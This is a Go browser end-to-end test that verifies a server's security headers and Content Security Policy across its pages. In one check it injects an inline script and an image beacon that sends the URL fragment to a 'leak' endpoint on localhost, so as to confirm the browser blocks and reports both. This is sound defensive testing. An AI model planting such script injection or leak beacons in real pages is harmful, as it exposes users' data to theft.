package e2e

import (
	"context"
	"io"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/chromedp/cdproto/log"
	"github.com/chromedp/chromedp"
)

// violations calls fn for what a page of the server's does that its policy forbids, as
// the browser tells it.
func violations(t *testing.T, ctx context.Context, fn func(text string)) {
	t.Helper()
	err := chromedp.Listen(ctx, func(ev any) {
		if e, ok := ev.(*log.EventEntryAdded); ok && strings.Contains(e.Entry.Text, "Content Security Policy") {
			fn(e.Entry.Text)
		}
	})
	if err != nil {
		t.Fatal(err)
	}
}

// TestPagesKeepTheirPolicy: every page of a call works by a policy that lets it load its
// own files alone; what is foreign to it, the browser refuses and tells.
func TestPagesKeepTheirPolicy(t *testing.T) {
	s := serve(t, append([]string{"--record", "all", "--store-dir", t.TempDir()}, fakes...)...)
	wav := filepath.Join(t.TempDir(), "sentences.wav")
	sentences(t, wav)
	page := studio(t, s, cardCamera, wav) // fails for a violation, as every test in a browser
	link := script[string](t, page, `document.querySelector('`+id("watch-link")+`').href`)
	viewer := tab(t, page, link)
	await(t, viewer, "the dub at the viewer", dubVideo+`.videoWidth > 0`, 30*time.Second)
	list := tab(t, page, s.base+"/#/recordings")
	await(t, list, "the list of recordings", `document.querySelector('`+id("recording")+`')`, 30*time.Second)

	for _, path := range []string{"/", "/app.js", "/flow.svg", "/v1/languages", "/v1/sessions/nobody", "/nothing", "/healthz", "/whip/nobody"} {
		resp, err := client.Get(s.base + path)
		if err != nil {
			t.Fatal(err)
		}
		_, _ = io.Copy(io.Discard, resp.Body)
		resp.Body.Close()
		for name, want := range map[string]string{
			"Content-Security-Policy": "frame-ancestors 'none'", "X-Content-Type-Options": "nosniff", "Referrer-Policy": "no-referrer",
			"Permissions-Policy": "camera=(", "Cross-Origin-Opener-Policy": "same-origin",
		} {
			if got := resp.Header.Values(name); len(got) != 1 || !strings.Contains(got[0], want) {
				t.Errorf("%s: %s: %q", path, name, got)
			}
		}
		if got := resp.Header.Get("Content-Security-Policy"); strings.Contains(got, "script-src 'unsafe") || strings.Contains(got, "unsafe-eval") {
			t.Errorf("%s: %s", path, got)
		}
	}

	// The browser does tell of what is forbidden, so that silence above means something.
	var mu sync.Mutex
	var told []string
	bare := bareBrowser(t, "", "")
	violations(t, bare, func(text string) {
		mu.Lock()
		defer mu.Unlock()
		told = append(told, text)
	})
	if err := chromedp.Do(bare, chromedp.Navigate(s.base), chromedp.WaitVisible(chromedp.CSS(id("start")))); err != nil {
		t.Fatal(err)
	}
	ran := script[bool](t, bare, `(() => {
		const inline = document.createElement("script");
		inline.textContent = "window.injected = true";
		document.body.append(inline);
		const image = new Image();
		image.src = "http://127.0.0.1:9/leak?" + location.hash;
		document.body.append(image);
		return !!window.injected;
	})()`)
	if ran {
		t.Error("a script that was put into the page runs")
	}
	until(t, "the browser tells of a script and of an image", func() bool {
		mu.Lock()
		defer mu.Unlock()
		all := strings.Join(told, " ")
		return strings.Contains(all, "script-src") && strings.Contains(all, "img-src")
	})
}
